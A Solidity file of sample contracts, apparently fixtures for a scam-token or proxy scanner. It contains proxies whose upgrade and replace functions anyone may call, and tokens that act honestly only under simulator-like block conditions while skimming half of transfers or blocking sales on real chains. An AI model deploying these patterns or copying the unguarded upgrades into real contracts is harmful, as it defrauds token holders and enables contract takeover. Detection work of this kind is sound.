// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

import {OddToken} from "./OddToken.sol";

/// @notice Runs other code on its own storage.
abstract contract Delegating {
    function _run(address code) internal {
        assembly {
            calldatacopy(0, 0, calldatasize())
            let succeeded := delegatecall(gas(), code, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch succeeded
            case 0 { revert(0, returndatasize()) }
            default { return(0, returndatasize()) }
        }
    }
}

/// @notice A proxy with its implementation where EIP-1967 keeps it; whoever wants to may change it.
contract Upgradable is Delegating {
    /// @dev keccak256("eip1967.proxy.implementation") - 1
    bytes32 private constant SLOT = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;

    event Upgraded(address indexed implementation);

    constructor(address implementation) {
        upgradeTo(implementation);
    }

    function upgradeTo(address implementation) public {
        assembly {
            sstore(SLOT, implementation)
        }
        emit Upgraded(implementation);
    }

    fallback() external {
        address implementation;
        assembly {
            implementation := sload(SLOT)
        }
        _run(implementation);
    }
}

/// @notice Runs other code, from a place that only it knows of.
contract Replaceable is Delegating {
    address private _code = address(new OddToken());

    function replace(address code) external {
        _code = code;
    }

    fallback() external {
        _run(_code);
    }
}

/// @notice Runs other code, which its own names for ever: EIP-1167's way.
contract Clone is Delegating {
    address private immutable CODE = address(new OddToken());

    fallback() external {
        _run(CODE);
    }
}

/// @notice Honest in a block that nobody earns from, which only a simulator makes; a taker in all others.
contract CoinbaseAware is OddToken {
    function _transfer(address from, address to, uint256 amount) internal override {
        _move(from, to, amount);
        if (block.coinbase != address(0) && !_isPool(to)) _move(to, address(this), amount / 2);
    }
}

/// @notice Honest only where gas is free.
contract BaseFeeAware is OddToken {
    error NotNow();

    function _transfer(address from, address to, uint256 amount) internal override {
        if (block.basefee != 0 && _isPool(to)) revert NotNow();
        _move(from, to, amount);
    }
}

/// @notice Honest with one half of all block builders.
contract BuilderAware is OddToken {
    function _transfer(address from, address to, uint256 amount) internal override {
        _move(from, to, amount);
        if (uint160(address(block.coinbase)) % 2 == 1 && !_isPool(to)) _move(to, address(this), amount / 2);
    }
}
